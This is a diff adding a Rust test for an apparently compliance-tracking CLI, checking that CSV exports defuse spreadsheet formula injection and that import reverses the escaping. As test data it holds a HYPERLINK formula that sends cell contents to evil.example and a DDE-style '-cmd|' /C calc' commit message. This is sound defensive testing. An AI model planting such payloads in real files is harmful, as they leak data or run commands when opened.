@@ -117,3 +117,40 @@ fn evidence_add_refuses_files_inside_git() {
     assert!(run.stderr.contains("inside `.git/`"), "{}", run.all());
     assert!(!repo.path().join("evidence").exists(), "nothing copied");
 }
+
+#[test]
+fn csv_exports_defuse_formulas_and_import_takes_the_quote_back() {
+    let repo = minimal();
+    let note = "=HYPERLINK(\"https://evil.example/?\"&A1, \"click\")";
+    repo.write(
+        "assessments/gdpr-2026/mfa.toml",
+        format!(
+            "owner = \"ana@example.com\"\n\n[implementation]\nstatus = \"implemented\"\ndate = 2026-02-01\nnotes = {}\n\n[test]\nstatus = \"none\"\nnotes = \"'-kept\"\n",
+            toml_string(note)
+        ),
+    );
+    repo.git_init();
+    repo.commit("ana@example.com", "start");
+    let state = repo.read("assessments/gdpr-2026/mfa.toml").replace("status = \"none\"", "status = \"in-progress\"");
+    repo.write("assessments/gdpr-2026/mfa.toml", state);
+    repo.git(&["add", "-A"]);
+    repo.git(&["commit", "-q", "--author", "@evil <x@example.com>", "-m", "-cmd|' /C calc'!A0"]);
+    let out = repo.path().join("actions.csv");
+    let export = repo.run(&["export", "actions", "--format", "csv", "--out", out.to_str().unwrap()]);
+    assert_eq!(export.code, 0, "{}", export.all());
+    let text = std::fs::read_to_string(&out).unwrap();
+    assert!(text.contains("\"'=HYPERLINK("), "{text}");
+    assert!(text.contains(",''-kept"), "{text}");
+    for cell in text.split([',', '\n']) {
+        assert!(!cell.trim_start_matches('"').starts_with(['=', '+', '-', '@']), "{cell:?} in\n{text}");
+    }
+    let import = repo.run(&["import", "actions", out.to_str().unwrap()]);
+    assert_eq!(import.code, 0, "{}", import.all());
+    assert!(import.stderr.contains("No change"), "{}", import.all());
+
+    let history = repo.run(&["export", "history", "--format", "csv"]);
+    assert_eq!(history.code, 0, "{}", history.all());
+    assert!(history.stdout.contains("'-cmd|"), "{}", history.stdout);
+    assert!(!history.stdout.contains(",-cmd|"), "{}", history.stdout);
+    assert!(history.stdout.contains(",'@evil,"), "{}", history.stdout);
+}
